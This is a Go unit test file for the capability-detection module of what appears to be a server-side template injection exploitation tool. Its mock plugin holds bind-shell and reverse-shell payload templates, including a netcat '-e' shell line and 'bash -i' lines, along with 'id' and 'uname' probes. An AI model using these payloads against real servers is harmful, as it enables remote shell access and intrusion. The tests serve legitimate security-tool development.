package capability

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sstimap/sstimap-go/pkg/channel"
	"github.com/sstimap/sstimap-go/pkg/detect"
	"github.com/sstimap/sstimap-go/pkg/registry"
	"github.com/sstimap/sstimap-go/pkg/sstitest"
	"github.com/sstimap/sstimap-go/pkg/timing"
)

func fullPlugin() *registry.Plugin {
	return &registry.Plugin{
		Language: "test",
		Contexts: []registry.ContextDescriptor{{Level: 0}},
		Actions: registry.ActionTable{
			"render": registry.Action{
				Templates: map[string]string{"render": "{code}"},
			},
			"evaluate": registry.Action{
				Call: "render",
				Templates: map[string]string{
					"evaluate":          "{code}",
					"test_os":           "uname",
					"test_os_expected":  `^[\w-]+$`,
				},
			},
			"execute": registry.Action{
				Call: "evaluate",
				Templates: map[string]string{
					"execute":           "{code}",
					"test_cmd":          "id",
					"test_cmd_expected": "uid=0",
				},
			},
			"write": registry.Action{Templates: map[string]string{"write": "w"}},
			"read":  registry.Action{Templates: map[string]string{"read": "r"}},
			"bind_shell": registry.Action{
				Call: "execute",
				Lists: map[string][]string{
					"bind_shell": {"bash -i {port} {shell}", "nc -lp {port} -e {shell}"},
				},
			},
			"reverse_shell": registry.Action{
				Call: "execute",
				Lists: map[string][]string{
					"reverse_shell": {"bash -i {host} {port} {shell}"},
				},
			},
		},
	}
}

func newSession(reqFunc func(ctx context.Context, injection string) (string, error)) (*sstitest.MockChannel, *detect.Session) {
	ch := sstitest.NewMockChannel(channel.Args{Level: 1})
	ch.ReqFunc = reqFunc
	s := detect.NewSession(ch, fullPlugin(), timing.New(0, 0), nil)
	return ch, s
}

func TestRenderedDetected_ConfirmsOSAndExecuteCapabilities(t *testing.T) {
	t.Parallel()

	ch, s := newSession(func(_ context.Context, injection string) (string, error) {
		if strings.Contains(injection, "uname") {
			return "linux-x86_64", nil
		}
		if strings.Contains(injection, "id") {
			return "uid=0\n", nil
		}
		return "", nil
	})

	if err := RenderedDetected(context.Background(), s); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}

	data := ch.Data()
	if data.GetString("os", "") != "linux-x86_64" {
		t.Errorf("expected os to be recorded, got %q", data.GetString("os", ""))
	}
	if !data.GetBool("execute") || !data.GetBool("bind_shell") || !data.GetBool("reverse_shell") {
		t.Error("expected execute/bind_shell/reverse_shell to be confirmed")
	}
	if !data.GetBool("write") || !data.GetBool("read") {
		t.Error("expected write/read to be flagged present since the plugin declares those actions")
	}
}

func TestRenderedDetected_RejectsCommandOutputMismatch(t *testing.T) {
	t.Parallel()

	_, s := newSession(func(_ context.Context, injection string) (string, error) {
		if strings.Contains(injection, "id") {
			return "permission denied", nil
		}
		return "not-matching-os-pattern !!!", nil
	})

	if err := RenderedDetected(context.Background(), s); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if s.Channel.Data().GetBool("execute") {
		t.Error("expected execute to remain unconfirmed on a mismatched probe")
	}
}

func TestBlindDetected_GatesOnExecuteBlindVerdict(t *testing.T) {
	t.Parallel()

	plugin := fullPlugin()
	plugin.Actions["execute_blind"] = registry.Action{
		Call: "inject",
		Templates: map[string]string{
			"test_cmd":      "SLEEP_MARK",
			"execute_blind": "{code}",
		},
	}
	ch := sstitest.NewMockChannel(channel.Args{})
	ch.ReqFunc = func(_ context.Context, injection string) (string, error) {
		if strings.Contains(injection, "SLEEP_MARK") {
			time.Sleep(1100 * time.Millisecond)
		}
		return "", nil
	}
	s := detect.NewSession(ch, plugin, timing.New(900*time.Millisecond, 900*time.Millisecond), nil)

	if err := BlindDetected(context.Background(), s); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	data := ch.Data()
	if data.GetString("evaluate_blind", "") != "test" {
		t.Error("expected evaluate_blind to be set unconditionally")
	}
	if !data.GetBool("execute_blind") || !data.GetBool("write") {
		t.Error("expected execute_blind (and the write capability it gates) to be confirmed")
	}
}

func TestBindShell_SpawnsOneWorkerPerVariantAndReturnsHandles(t *testing.T) {
	t.Parallel()

	var mu sync.Mutex
	var seen []string
	done := make(chan struct{}, 2)
	ch := sstitest.NewMockChannel(channel.Args{})
	ch.ReqFunc = func(_ context.Context, injection string) (string, error) {
		mu.Lock()
		seen = append(seen, injection)
		mu.Unlock()
		done <- struct{}{}
		return "", nil
	}
	s := detect.NewSession(ch, fullPlugin(), timing.New(0, 0), nil)

	handles := BindShell(context.Background(), s, "4444", "/bin/sh")
	if len(handles) != 2 {
		t.Fatalf("expected 2 handles for 2 payload variants, got %d", len(handles))
	}
	for i := 0; i < 2; i++ {
		select {
		case <-done:
		case <-time.After(2 * time.Second):
			t.Fatal("timed out waiting for spawned bind-shell workers")
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != 2 {
		t.Fatalf("expected 2 requests issued, got %d: %v", len(seen), seen)
	}
}
